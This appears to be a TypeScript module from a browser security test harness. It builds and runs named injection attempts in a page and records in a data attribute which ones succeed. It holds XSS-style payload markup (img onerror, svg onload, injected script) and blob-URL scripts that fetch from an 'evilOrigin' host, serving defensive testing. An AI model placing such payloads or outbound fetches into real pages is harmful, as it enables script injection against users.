import type { Attack } from './Attack';

/** Progress of the attacks. The page stores it in an attribute, which every browser driver can read. */
interface AttackState {
  /** Names of the attacks that succeeded. */
  readonly succeeded: string[];
  /** Number of started attacks, including blocked ones. */
  readonly tried: number;
  readonly isDone: boolean;
}

const stateKey = 'attacked';

/** Reads the progress from the `data-` attributes of the root element. Undefined before the first attack. */
export function readAttackState({ [stateKey]: text }: DOMStringMap): AttackState | undefined {
  return text === undefined ? undefined : (JSON.parse(text) as AttackState);
}

function attackSource(name: string, attack: Attack, evilOrigin: string): string {
  const literal = JSON.stringify;
  const call = `__succeed(${literal(name)})`;
  const code = literal(call);
  const html = `<img src="data:," onerror='${call}'><svg onload='${call}'></svg><script>parent.${call}</script>`;
  const blobUrl = (text: string, type: string) =>
    `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
  const body = attack({
    code,
    markup: literal(html),
    scriptUrl: blobUrl(
      literal(`globalThis.__succeed ? ${call} : fetch('${evilOrigin}/worker')`),
      'text/javascript',
    ),
    pageUrl: blobUrl(literal(html), 'text/html'),
    evilOrigin,
  });
  return `[${literal(name)}, async (succeed) => { ${body} }]`;
}

/**
 * Returns the source text of a script that runs the attacks in turn in its page. Each attack has its own
 * time limit, because the browser often blocks an attack without an error.
 */
export function createAttackScript(attacks: Readonly<Record<string, Attack>>, evilOrigin: string): string {
  const list = Object.entries(attacks).map(([name, attack]) => attackSource(name, attack, evilOrigin));
  return `;(() => {
    if (globalThis.__succeed) return;
    const state = { succeeded: [], tried: 0, isDone: false };
    const save = () => { document.documentElement.dataset.${stateKey} = JSON.stringify(state) };
    globalThis.__succeed = (name) => { state.succeeded.push(name); save() };
    addEventListener('message', ({ data }) => { if (data === 'ran') __succeed('a frame that posts a message') });
    const pause = () => new Promise((resolve) => setTimeout(resolve, 50));
    const settled = (target) => Promise.race([
      new Promise((resolve) => { for (const type of ['load', 'error']) target.addEventListener(type, resolve) }),
      new Promise((resolve) => setTimeout(resolve, 500)),
    ]);
    const attacks = [${list.join(',\n')}];
    const run = async () => {
      for (const [name, attack] of attacks) {
        state.tried += 1;
        save();
        try { await attack(() => __succeed(name)) } catch { /* Blocked. */ }
        await pause();
      }
      // Some attacks send their request only when the page is idle.
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      state.isDone = true;
      save();
    };
    if (document.readyState === 'complete') run(); else addEventListener('load', run);
  })();`;
}
